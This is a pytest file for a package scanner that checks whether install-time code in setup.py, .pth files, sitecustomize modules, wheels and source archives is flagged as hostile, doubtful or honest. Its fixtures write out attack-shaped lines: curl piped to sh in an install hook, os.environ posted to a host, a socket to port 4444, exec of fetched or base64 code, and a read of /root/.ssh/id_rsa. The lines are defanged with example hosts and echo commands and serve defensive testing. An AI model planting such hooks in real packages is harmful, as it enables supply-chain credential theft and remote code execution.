"""Code that acts at installation or start: attacks, and what honest packages do."""

import io
import tarfile
import zipfile

import pytest

SETUP = "from setuptools import setup\n"
COMMAND = """from setuptools import setup
from setuptools.command.install import install
import os, subprocess, urllib.request
class Install(install):
    def run(self):
        install.run(self)
        {}
setup(name="x", cmdclass={{"install": Install}})
"""

ATTACKS = {
    "decoded": SETUP + "import base64\nexec(base64.b64decode('ZWNobyBzZWFtYXJrLWhhcm1sZXNz'))\n",
    "hex": "exec(bytes.fromhex('7365616d61726b').decode())\n",
    "marshal": "import marshal\nexec(marshal.loads(b'seamark-harmless'))\n",
    "fetched": "from urllib.request import urlopen\nexec(urlopen('https://example.org/s.py').read())\n",
    "looked up": "import os\ngetattr(os, 'sys' + 'tem')('echo seamark-harmless')\n",
    "piped": COMMAND.format("os.system('curl https://example.org/a | sh')"),
    "leaks": COMMAND.format(
        "urllib.request.urlopen('https://example.org', data=str(dict(os.environ)).encode())"
    ),
    "connects": COMMAND.format("import socket; socket.create_connection(('192.0.2.1', 4444))"),
}
DOUBTFUL = {
    "fetches": "import requests\nrequests.get('https://example.org')\n",
    "fetches in a command": COMMAND.format("urllib.request.urlretrieve('https://example.org/x')"),
    "wget": "import os\nos.system('wget -q https://example.org/m')\n",
    "powershell": "import subprocess\nsubprocess.Popen(['powershell', '-c', 'x'])\n",
    "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n",
    "keys": "open('/root/.ssh/id_rsa')\n",
}
HONEST = {
    "git": SETUP + "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup()\n",
    "version": SETUP + "d = {}\nexec(open('x/version.py').read(), d)\nsetup()\n",
    "version, line by line": SETUP
    + "def v():\n    with open('v.py') as f:\n        for line in f:\n"
    + "            g = {}\n            exec(line, g)\n            return g\nsetup(version=v())\n",
    "version, read before": SETUP + "with open('v.py') as f:\n    text = f.read()\nexec(text)\n",
    "cmake": COMMAND.format("subprocess.check_call(['cmake', '..'])"),
    "publish": "import os, sys\nif sys.argv[-1] == 'x':\n    os.system('python setup.py sdist')\n",
    "clean": "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
}


def _told(findings) -> set[tuple[str, str]]:
    return {(each.rule.id, each.rule.verdict.value) for each in findings}


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_in_setup_py(judged, name: str) -> None:
    assert ("INS003", "hostile") in _told(judged("install_code", {"setup.py": ATTACKS[name]}))


@pytest.mark.parametrize("name", DOUBTFUL)
def test_doubtful_setup_py(judged, name: str) -> None:
    assert _told(judged("install_code", {"setup.py": DOUBTFUL[name]})) == {("INS004", "review")}


@pytest.mark.parametrize("name", HONEST)
def test_honest_setup_py(judged, name: str) -> None:
    assert judged("install_code", {"setup.py": HONEST[name]}) == []


@pytest.mark.parametrize(
    "content", [b"print 'python 2'\n", b"(" * 5000, b"\0", b"x = 1\n" * 100_000, "\ufeff(".encode()]
)
def test_setup_py_that_cannot_be_read(judged, content: bytes) -> None:
    assert _told(judged("install_code", {"setup.py": content})) == {("INS005", "unclear")}


SITE = "lib/python3.11/site-packages"
METADATA = {f"{SITE}/x-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"}
NSPKG = "".join(
    (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);",
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));",
        "importlib = has_mfs and __import__('importlib.util');",
        "has_mfs and __import__('importlib.machinery');",
        "m = has_mfs and sys.modules.setdefault('google.cloud', importlib.util.module_from_spec(",
        "importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));",
        "m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));",
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)",
        ";m and setattr(sys.modules['google'], 'cloud', m)",
    )
)
KNOWN_LINES = [
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
    "import __editable___x_1_0_finder; __editable___x_1_0_finder.install()",
    "import _virtualenv",
    "import pywin32_bootstrap",
    "import coverage; coverage.process_startup()",
    NSPKG,
    "/home/somebody/project/src",
    "# import os; os.system('x')",
    " import os",
    "importlib",
]


@pytest.mark.parametrize("line", KNOWN_LINES)
def test_known_lines_of_path_files(judged, line: str) -> None:
    assert judged("install_code", {**METADATA, f"{SITE}/any-name.pth": line + "\n"}) == []


ATTACK_LINES = [
    "import base64;exec(base64.b64decode('ZWNobyBzZWFtYXJrLWhhcm1sZXNz'))",
    "import os; os.system('echo seamark-harmless')",
    "import\tos, subprocess;subprocess.Popen(['sh', '-c', 'echo seamark-harmless'])",
    "import urllib.request as u;u.urlopen('https://example.org')",
    "import os;exec(open('/tmp/x').read())",
    NSPKG + ";import os;os.system('echo seamark-harmless')",
    "import __editable___x_finder; __editable___x_finder.install(); __import__('os').system('x')",
]


@pytest.mark.parametrize("line", ATTACK_LINES)
def test_attacks_in_path_files(judged, line: str) -> None:
    files = {**METADATA, f"{SITE}/distutils-precedence.pth": f"# a comment\n{line}\n"}
    findings = judged("install_code", files)
    assert _told(findings) == {("INS001", "hostile")}
    assert findings[0].location.line == 2


def test_line_that_imports_something_is_reviewed(judged) -> None:
    files = {**METADATA, f"{SITE}/x.pth": "import something\n"}
    assert _told(judged("install_code", files)) == {("INS002", "review")}


def test_two_editable_modules_in_one_line_are_not_known(judged) -> None:
    line = "import __editable___x_finder; __editable___y_finder.install()\n"
    assert _told(judged("install_code", {**METADATA, f"{SITE}/x.pth": line})) == {
        ("INS002", "review")
    }


@pytest.mark.parametrize("module", ["payload.py", "payload/__init__.py"])
def test_the_module_that_a_line_imports_is_examined(judged, module: str) -> None:
    files = {
        **METADATA,
        f"{SITE}/x.pth": "import payload\n",
        f"{SITE}/{module}": "import os\nos.system('echo seamark-harmless')\n",
    }
    assert _told(judged("install_code", files)) == {("INS001", "hostile")}


def test_known_line_with_another_module_behind_it(judged) -> None:
    files = {
        **METADATA,
        f"{SITE}/_virtualenv.pth": "import _virtualenv\n",
        f"{SITE}/_virtualenv.py": "import base64\nexec(base64.b64decode('eA=='))\n",
    }
    assert _told(judged("install_code", files)) == {("INS001", "hostile")}


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py"])
def test_custom_modules(judged, name: str) -> None:
    files = {**METADATA, f"{SITE}/{name}": "import os\nos.environ['X'] = '1'\n"}
    assert _told(judged("install_code", files)) == {("INS002", "review")}
    files = {f"{SITE}/{name}": "import os\nos.system('echo seamark-harmless')\n"}
    assert _told(judged("install_code", files)) == {("INS001", "hostile")}


def test_path_file_that_is_no_file(judged, tmp_path) -> None:
    (tmp_path / SITE / "x.pth").mkdir(parents=True)
    assert _told(judged("install_code", METADATA)) == {("INS005", "unclear")}


def _wheel(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "x-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"
        )
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


WHEEL = "x-1.0-py3-none-any.whl"


@pytest.mark.parametrize("place", ["", "x-1.0.data/purelib/"])
def test_path_file_in_a_wheel(judged, place: str) -> None:
    wheel = _wheel(
        **{f"{place}x.pth": "import x_start\n", "x_start.py": "import os\nos.system('x')\n"}
    )
    findings = judged("install_code", {WHEEL: wheel})
    assert _told(findings) == {("INS001", "hostile")}
    assert findings[0].location.member == f"{place}x.pth"


def test_weights_in_a_wheel_are_no_path_file(judged) -> None:
    assert (
        judged("install_code", {WHEEL: _wheel(**{"x/weights.pth": "import os; os.system('x')"})})
        == []
    )


def _source_archive(setup: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in (("PKG-INFO", "Name: x\nVersion: 1.0\n"), ("setup.py", setup)):
            info = tarfile.TarInfo(f"x-1.0/{name}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return buffer.getvalue()


def test_setup_py_in_a_source_archive(judged) -> None:
    files = {"vendor/x-1.0.tar.gz": _source_archive(ATTACKS["piped"])}
    findings = judged("install_code", files)
    assert ("INS003", "hostile") in _told(findings)
    assert {each.location.member for each in findings} == {"x-1.0/setup.py"}


def test_npm_scripts_and_own_backends_are_remarks(judged) -> None:
    lock = (
        '{"lockfileVersion": 3, "packages": {"node_modules/esbuild": {"version": "0.25.0", '
        '"hasInstallScript": true}}}'
    )
    own = '[build-system]\nrequires = []\nbuild-backend = "mine"\nbackend-path = ["."]\n'
    findings = judged("install_code", {"package-lock.json": lock, "pyproject.toml": own})
    assert _told(findings) == {("INS006", "clean"), ("INS007", "clean")}
